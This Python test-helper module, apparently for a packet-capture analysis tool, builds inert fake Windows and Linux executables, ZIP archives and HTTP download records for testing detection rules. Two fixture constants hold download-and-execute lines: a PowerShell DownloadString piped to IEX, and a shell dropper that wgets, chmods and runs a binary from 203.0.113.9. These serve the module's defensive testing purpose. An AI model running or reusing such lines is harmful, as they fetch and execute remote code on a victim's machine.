"""Files that look like programs and can do nothing, and downloads of them: as rows of tables, and as captures."""

from __future__ import annotations

import io
import struct
import zipfile
from typing import Any

from tests import builders as b
from tests.rules.checkins import wire
from tests.rules.checkins.wire import exact as exact
from tests.rules.checkins.wire import request, tcp
from tests.rules.checkins.wire import udp as udp
from tests.rules.checkins.wire import write as write
from tshark_report.capture import filetypes
from tshark_report.rules.base import Rule
from tshark_report.tables.tables import Tables

CLIENT, SERVER, OUTSIDE, OTHER = b.CLIENT, b.SERVER, b.OUTSIDE, "198.51.100.7"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0"
STUB = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"


def noise(size: int, seed: int = 1) -> bytes:
    """Bytes without a pattern."""
    state, made = seed, bytearray()
    while len(made) < size:
        state = (state * 6364136223846793005 + 1442695040888963407) % (1 << 64)
        made += struct.pack("<Q", state ^ (state >> 29))
    return bytes(made[:size])


def pe(size: int = 3000, *, dll: bool = False) -> bytes:
    """The header of a Windows program, and noise: nothing in it can run."""
    head = (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
        + bytes(7)
        + b"\x40"
        + bytes(35)
        + struct.pack("<I", 0x80)
    )
    head = (head + STUB).ljust(0x80, b"\0")
    head += b"PE\0\0L\x01\x03\x00" + bytes(12) + struct.pack("<HH", 0xE0, 0x2102 if dll else 0x0102)
    return head + noise(size - len(head))


def elf(size: int = 3000) -> bytes:
    """The header of a Linux program, and noise."""
    return b"\x7fELF\x01\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 40, 1) + noise(size - 24)


JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + noise(600)
POWERSHELL = b"$c = New-Object System.Net.WebClient\r\n$d = $c.DownloadString('http://203.0.113.9/b')\r\nIEX $d\r\n" * 3
SHELL = b"#!/bin/sh\ncd /tmp; wget http://203.0.113.9/a.arm7; chmod 777 a.arm7; ./a.arm7\n"
PAGE = b"<!DOCTYPE html><html><head><title>A page</title></head><body><p>Text</p></body></html>"
GIF = b"GIF89a" + bytes(200)
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(200)


def archive(**members: bytes) -> bytes:
    """A ZIP archive; `a__js` stands for the name `a.js`."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name.replace("__", "."), content)
    return made.getvalue()


def xored(content: bytes, key: bytes) -> bytes:
    """`content` under a repeating key."""
    return bytes(byte ^ key[place % len(key)] for place, byte in enumerate(content))


def answer(body: bytes, kind: str = "application/octet-stream", status: str = "200 OK", **headers: str) -> bytes:
    """An HTTP answer."""
    lines = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}", *([f"Content-Type: {kind}"] if kind else [])]
    lines += [f"{k.replace('_', '-')}: {v}" for k, v in headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def fetched(
    at: float, uri: str, host: str, body: bytes, kind: str = "application/octet-stream", *, server: str = OUTSIDE, client: str = CLIENT,
    port: int = 80, client_port: int = 40000, agent: str = BROWSER, method: str = "GET", sent: bytes = b"", status: str = "200 OK",
    extra: dict[str, str] | None = None, **headers: str,
) -> wire.Frames:  # fmt: skip
    """A TCP session with one request and its answer."""
    given = ({"User_Agent": agent} if agent else {}) | headers
    return tcp(
        at, [(0.1, ">", request(method, uri, host, sent, **given)), (0.2, "<", answer(body, kind, status, **(extra or {})))],
        client=client, server=server, port=port, client_port=client_port,
    )  # fmt: skip


def download(**columns: Any) -> Tables:
    """Tables of one HTTP download, without a capture: `body`, and columns of the request, the answer and the file."""
    return downloads(columns)


def downloads(*given: dict[str, Any]) -> Tables:
    """Tables of several HTTP downloads, ten seconds and ten frames apart, each in a stream of its own."""
    http, files, packets = [], [], []
    for place, columns in enumerate(given):
        body = columns.get("body", pe())
        content = filetypes.content(body)
        client, server, port = columns.get("client", CLIENT), columns.get("server", OUTSIDE), columns.get("port", 80)
        at, frame = b.START + columns.get("at", 10.0 * place), 1 + 10 * place
        uri = columns.get("uri", "/setup.exe")
        asked = {
            "frame": frame, "time": at, "src": client, "dst": server, "src_port": 40000 + place, "dst_port": port, "stream": place,
            "method": columns.get("method", "GET"), "uri": uri, "host": columns.get("host", "www.vendor.example"),
            "user_agent": columns.get("agent", BROWSER), "referer": columns.get("referer"), "content_length": columns.get("sent_length"),
        }  # fmt: skip
        told = {
            "frame": frame + 5, "time": at + 0.5, "src": server, "dst": client, "src_port": port, "dst_port": 40000 + place,
            "stream": place, "status": columns.get("status", 200), "content_type": columns.get("kind", "application/octet-stream"),
            "content_length": len(body), "request_frame": frame, "location": columns.get("location"),
        }  # fmt: skip
        http += [asked, told]
        ends = ({"src": client, "dst": server, "src_port": 40000 + place, "dst_port": port, "stream": place},
                {"src": server, "dst": client, "src_port": port, "dst_port": 40000 + place, "stream": place})  # fmt: skip
        packets += [
            ends[0] | {"frame": frame, "time": at, "payload": 300, "flags": 0x18},
            ends[1] | {"frame": frame + 5, "time": at + 0.5, "payload": len(body), "flags": 0x18},
        ]
        files.append({
            "name": uri.split("?")[0].rsplit("/", 1)[-1], "frame": frame + 5, "time": at + 0.5, "source": server, "destination": client,
            "bytes": len(body), "sha256": f"{place:064x}", "declared_type": told["content_type"], "detected_type": content.type,
            "stream": place, "uri": uri, "host": asked["host"], "head": body[:512], "inside": list(content.inside),
            "marks": list(content.marks),
        })  # fmt: skip
    return b.tables(http=b.family("http", *http), files=b.files(*files), packets=b.packets(*packets))


def graded(rule: Rule, **columns: Any) -> str:
    """The priority that a rule gives one download; empty where it stays quiet."""
    found = b.drafts(rule, download(**columns))
    assert len(found) <= 1
    return found[0].priority if found else ""
